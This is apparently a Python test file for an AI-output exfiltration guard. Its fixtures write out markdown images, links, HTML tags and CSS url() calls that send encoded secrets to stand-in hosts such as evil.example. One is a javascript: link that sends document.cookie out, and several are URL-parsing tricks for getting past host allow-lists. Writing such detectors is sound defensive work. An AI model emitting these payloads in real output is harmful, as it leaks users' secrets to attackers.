"""exfiltration: images and data-carrying links to outside hosts in model output."""

from __future__ import annotations

from typing import Any

import pytest

from aisec_sdk.engine import scan
from aisec_sdk.errors import PolicyError
from aisec_sdk.policy import Policy


@pytest.mark.parametrize(
    ("output", "entity"),
    [
        ("Done! ![img](https://evil.example/p.png?d=cGFzc3dvcmQ9aHVudGVyMg)", "image"),
        ("![](https://tracker.example/pixel.gif)", "image"),
        ('<img width=1 src="https://x.example/a?q=secret-value-123">', "image"),
        ("[click here](https://evil.example/collect?session=c2Vzc2lvbi10b2tlbi0xMjM0)", "link"),
        ("[docs][1]\n\n[1]: https://evil.example/c?u=jane%40mail.example%20pw", "link"),
        ("visit https://evil.example/log?data=user%40mail.com%20pw%3Dx now", "url"),
        ("![x](//evil.example/" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" + ".png)", "image"),
    ],
)
def test_exfiltration_channels(run_guard: Any, output: str, entity: str) -> None:
    found = run_guard("exfiltration")(output, "output")
    assert [f.entity for f in found] == [entity]
    assert (
        "evil" in output[found[0].start : found[0].end]
        or "x.example" in output
        or "tracker" in output
    )


@pytest.mark.parametrize(
    "output",
    [
        "See [the docs](https://docs.python.org/3/library/re.html) for details.",
        "Source: https://en.wikipedia.org/wiki/Regular_expression",
        "![diagram](./images/arch.png) and ![inline](data:image/png;base64,iVBORw0KGgo=)",
        "Email me via [mail](mailto:someone@example.com)",
        "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ or search https://duckduckgo.com/?q=rust",
        "Read [the essay](https://www.example.org/essays/analysis-of-fords-value-plan.php).",
        "See https://matplotlib.org/examples/pylab_examples/colorbar_tick_labelling_demo.html",
        "Source: https://www.example.com/blog/8-habits-of-Great-Bosses-2024",
        "No links here at all.",
    ],
)
def test_ordinary_output_does_not_fire(run_guard: Any, output: str) -> None:
    assert run_guard("exfiltration")(output, "output") == []


def test_allowed_hosts_and_subdomains(run_guard: Any) -> None:
    scan_ = run_guard("exfiltration", allowed_hosts=["example.com", "*.cdn.test"])
    assert scan_("![a](https://img.example.com/a.png?u=1234567890)", "output") == []
    assert scan_("![a](https://x.cdn.test/a.png)", "output") == []
    assert scan_("![a](https://example.com.evil.test/a.png)", "output")


def test_redaction_keeps_the_answer() -> None:
    policy = Policy(guards={"prompt_injection": {"enabled": False}})
    out = "Summary done. ![s](https://evil.example/i.png?d=c2VjcmV0c2VjcmV0) and [more](https://evil.example/?q=VGhlIHVzZXIgc2FpZCBoZWxsbw)"
    verdict = scan(out, direction="output", policy=policy)
    assert verdict.action == "redact"
    assert verdict.text == "Summary done. [image removed] and more [link removed]"


def test_links_option(run_guard: Any) -> None:
    text = "[x](https://evil.example/?q=abcdefghijk)"
    assert run_guard("exfiltration", links=False)(text, "output") == []


@pytest.mark.parametrize(
    ("output", "entity"),
    [
        ("![chart][logo]\n\n[logo]: https://evil.example/c.png", "image"),
        ("![Logo]\n\n[logo]: https://evil.example/c.png", "image"),
        ('<img srcset="https://evil.example/t.gif 1x">', "image"),
        ('<iframe src="https://evil.example/frame"></iframe>', "image"),
        ("<https://evil.example/collect?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEU>", "url"),
        ("![x](HTTPS://evil.example/p.png)", "image"),
        ("![x](https://evil.example/p_(1).png)", "image"),
        ("![x](<https://evil.example/p.png?d=a b c>)", "image"),
        ("[click](javascript:fetch('//evil.example/?c='+document.cookie))", "link"),
        ("[x](JaVaScRiPt:alert(1))", "link"),
        ('<a href="javascript:alert(1)">x</a>', "link"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "link"),
    ],
)
def test_more_channels(run_guard: Any, output: str, entity: str) -> None:
    assert [f.entity for f in run_guard("exfiltration")(output, "output")] == [entity]


def test_paths_with_parentheses_are_whole(run_guard: Any) -> None:
    output = "![x](https://evil.example/p_(1).png?d=c2VjcmV0c2VjcmV0c2VjcmV0) end"
    (found,) = run_guard("exfiltration")(output, "output")
    assert output[found.start : found.end] == output[: -len(" end")]


def test_hosts_are_compared_as_a_browser_resolves_them(run_guard: Any) -> None:
    scan_ = run_guard("exfiltration", allowed_hosts=["acme.example", "bücher.example"])
    # a Cyrillic look-alike is another host, although the normalised text folds it
    assert scan_("![x](https://\u0430cme.example/p.png)", "output")
    assert scan_("![x](https://xn--cme-8cd.example/p.png)", "output")
    # a browser reads the backslash as a slash: the host is evil.test
    assert scan_("![x](https://evil.test\\@acme.example/p.png)", "output")
    # the same allowed host written in Unicode, punycode or full width
    assert scan_("![x](https://xn--bcher-kva.example/p.png)", "output") == []
    assert scan_("![x](https://BÜCHER.example/p.png)", "output") == []
    assert scan_("![x](https://\uff41\uff43\uff4d\uff45.example/p.png)", "output") == []


def test_inert_data_images_and_plain_html_links(run_guard: Any) -> None:
    scan_ = run_guard("exfiltration")
    assert scan_('<a href="https://docs.python.org/3/">docs</a>', "output") == []
    assert scan_('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">', "output") == []
    assert scan_("[ref][r]\n\n[r]: https://docs.python.org/3/library/re.html", "output") == []


@pytest.mark.parametrize(
    "output",
    [
        "![a [b] c](https://evil.example/p.png)",
        "[x](https://dxnlcjpqb2huqgv4yw1wbguuy29t.evil.example/)",
        "[x](https://evil.example/user%20john%40corp.com%20pw%3Dhunter2)",
    ],
)
def test_nested_brackets_subdomain_and_encoded_path_data(run_guard: Any, output: str) -> None:
    assert run_guard("exfiltration")(output, "output")


@pytest.mark.parametrize(
    "output",
    [
        "[see [1](https://docs.python.org/3/)](https://docs.python.org/3/library/)",
        "[bucket](https://mybucket-2024-logs-archive-prod.s3.amazonaws.com/index.html)",
        "[post](https://medium.com/@someone/my-first-post-1a2b3c)",
        "[host](https://ec2-54-123-45-67.compute-1.amazonaws.com/)",
    ],
)
def test_ordinary_hosts_and_paths_stay_quiet(run_guard: Any, output: str) -> None:
    assert run_guard("exfiltration")(output, "output") == []


@pytest.mark.parametrize("title", ['"t"', "'t'", "(t)"])
def test_images_with_any_title_quoting(run_guard: Any, title: str) -> None:
    output = f"![x](https://evil.example/p.png {title}) done"
    (found,) = run_guard("exfiltration")(output, "output")
    assert output[found.start : found.end] == f"![x](https://evil.example/p.png {title})"


@pytest.mark.parametrize(
    ("output", "entity", "score"),
    [
        ("![x](https://evil.test/p.png?d=<EMAIL_1>)", "image", 0.95),
        ("![x](https://evil.test/<EMAIL_1>.png)", "image", 0.95),
        ("![x](https://evil.test/p.png?d=a<b)", "image", 0.7),
        ("[c](https://evil.test/c?u=<EMAIL_1>&v=<PHONE_1>)", "link", 0.85),
        ("see https://evil.test/c?u=<EMAIL_1>", "url", 0.68),
        ("[x](data:text/html,<script>alert(1)</script>)", "link", 0.7),
        ("![x](https://evil.test/p.png?d=((((a)b)c)d))", "image", 0.7),
        ("![x](https://evil.test/p\\(.png)", "image", 0.7),
        ("![x](<https://evil.test/p.png?d=a(b c>)", "image", 0.7),
        ("![x](https://evil.test/p.png" + " " * 40 + "\n  'title'  )", "image", 0.7),
    ],
)
def test_destinations_as_commonmark_reads_them(
    run_guard: Any, output: str, entity: str, score: float
) -> None:
    """``<`` and quotes belong to a raw destination, parentheses balance at any depth or are
    escaped, ``<...>`` holds spaces and unbalanced parentheses; a pseudonym of the vault
    (``<EMAIL_1>``) is data: the value comes back in the URL after the guards ran."""
    (found,) = run_guard("exfiltration")(output, "output")
    assert (found.entity, found.score, found.end) == (entity, score, len(output))


def test_a_pseudonym_in_a_url_is_removed_with_it() -> None:
    policy = Policy(guards={"prompt_injection": {"enabled": False}})
    html = '<img src="https://evil.test/p.png?d=<EMAIL_1>">'
    assert scan(html, direction="output", policy=policy).text == '<img src="[image removed]">'
    bare = scan("go to https://evil.test/c?u=<EMAIL_1> now", direction="output", policy=policy)
    assert bare.text == "go to [link removed] now"


@pytest.mark.parametrize(
    "output",
    [
        "[x](https://evil.test/p.png?d=((a)",  # a parenthesis never closed: no link
        "[x](https://evil.test/p.png?d=a b)",  # a space ends a raw destination: no link
        "[x](<https://evil.test/p.png?d=a<b>)",  # "<" inside <...>: no link
        "![x](./img/a(1).png) and [m](mailto:jane@example.com)",
    ],
)
def test_what_commonmark_reads_as_no_outside_link(run_guard: Any, output: str) -> None:
    assert run_guard("exfiltration")(output, "output") == []


def test_allowed_hosts_written_as_urls_are_read_as_their_hosts(run_guard: Any) -> None:
    for entry in ("https://acme.example", "acme.example/", "acme.example:8443"):
        scan_ = run_guard("exfiltration", allowed_hosts=[entry])
        assert scan_("![x](https://img.acme.example/p.png)", "output") == [], entry
        assert scan_("![x](https://evil.example/p.png)", "output"), entry
    with pytest.raises(PolicyError, match=r"guards\.exfiltration\.allowed_hosts: 'https://'"):
        Policy(guards={"exfiltration": {"allowed_hosts": ["https://"]}})


@pytest.mark.parametrize(
    "output",
    [
        "![x](https:\\\\evil.test\\p.png)",
        "[x](https:/\\evil.test/?d=c2VjcmV0c2VjcmV0c2VjcmV0)",
        "![x](https:evil.test/p.png)",  # no slash: evil.test on an http page
        "![x](HTTPS:////evil.test/p.png)",
        "![x](/\\evil.test/p.png)",
        "![x](< https://evil.test/p.png>)",  # spaces around a URL are dropped
        "![x](\\/\\/evil.test/p.png)",  # markdown reads //evil.test
        '<img src="https:\\\\evil.test\\p.png">',
        '<img src=" https://evil.test/p.png">',
        "![a]\n\n[a]: https:\\\\evil.test\\p.png",
    ],
)
def test_destinations_are_read_as_a_browser_reads_them(run_guard: Any, output: str) -> None:
    """WHATWG URL parsing: a backslash is a slash in an http(s) URL, and any number of
    slashes may follow the scheme."""
    (found,) = run_guard("exfiltration")(output, "output")
    assert "(evil.test)" in found.message, found.message


def test_the_allow_list_is_checked_against_the_host_a_browser_reads(run_guard: Any) -> None:
    scan_ = run_guard("exfiltration", allowed_hosts=["acme.example"])
    assert scan_("![x](https:\\\\cdn.acme.example\\p.png)", "output") == []
    assert scan_("![x](https:///acme.example/p.png)", "output") == []
    # markdown undoes the escape: https://acme.example@evil.test/p.png loads from evil.test
    (found,) = scan_("![x](https://acme.example\\@evil.test/p.png)", "output")
    assert "(evil.test)" in found.message


@pytest.mark.parametrize(
    "output",
    [
        "![x](\\evil.test/p.png)",  # one backslash: a path on the page's own host
        "[notes](C:\\Users\\me\\notes.md)",
        "![x](https:/)",
    ],
)
def test_destinations_a_browser_reads_as_no_outside_host(run_guard: Any, output: str) -> None:
    assert run_guard("exfiltration")(output, "output") == []


@pytest.mark.parametrize(
    ("output", "url", "score"),
    [
        (
            '<div style="background:url(https://evil.test/p.png?d=c2VjcmV0c2VjcmV0c2VjcmV0)">',
            "https://evil.test/p.png?d=c2VjcmV0c2VjcmV0c2VjcmV0",
            0.95,
        ),
        (
            "<p style='background-image: url(\"https://evil.test/a.png\")'>hi</p>",
            "https://evil.test/a.png",
            0.7,
        ),
        ("<td style=background:URL(//evil.test/a.png)>", "//evil.test/a.png", 0.7),
        (
            "<style>\nbody { background-image: url( 'https://evil.test/a.png' ) }\n</style>",
            "https://evil.test/a.png",
            0.7,
        ),
        ('<style>@import "https://evil.test/x.css";</style>', "https://evil.test/x.css", 0.7),
        (
            "<style>a{background:url(https:\\2f\\2f evil.test/a.png)}",
            "https:\\2f\\2f evil.test/a.png",
            0.7,
        ),
    ],
)
def test_css_that_loads_from_an_outside_host_is_an_image(
    run_guard: Any, output: str, url: str, score: float
) -> None:
    (found,) = run_guard("exfiltration")(output, "output")
    assert (found.entity, found.score, output[found.start : found.end]) == ("image", score, url)


def test_css_is_checked_against_the_allow_list_after_its_escapes() -> None:
    policy = Policy(
        guards={"prompt_injection": False, "exfiltration": {"allowed_hosts": ["acme.example"]}}
    )
    quiet = '<div style="background:url(https://cdn.acme.example/a.png)">'
    assert scan(quiet, direction="output", policy=policy).text == quiet
    # \40 is "@": https://acme.example@evil.test/p.png
    out = "<style>a{background:url(https://acme.example\\40 evil.test/p.png)}</style>"
    verdict = scan(out, direction="output", policy=policy)
    assert verdict.text == "<style>a{background:url([image removed])}</style>"


@pytest.mark.parametrize(
    "output",
    [
        '<div style="background:url(/img/bg.png)">',
        "<style>a::after { content: 'https://evil.test/a.png' }</style>",
        "```css\nbody { background: url(https://example.org/bg.png) }\n```",  # not rendered
        "<style>a{color:red}</style> then url(https://evil.test/a.png) in prose",
    ],
)
def test_css_that_loads_nothing_outside_stays_quiet(run_guard: Any, output: str) -> None:
    assert run_guard("exfiltration")(output, "output") == []
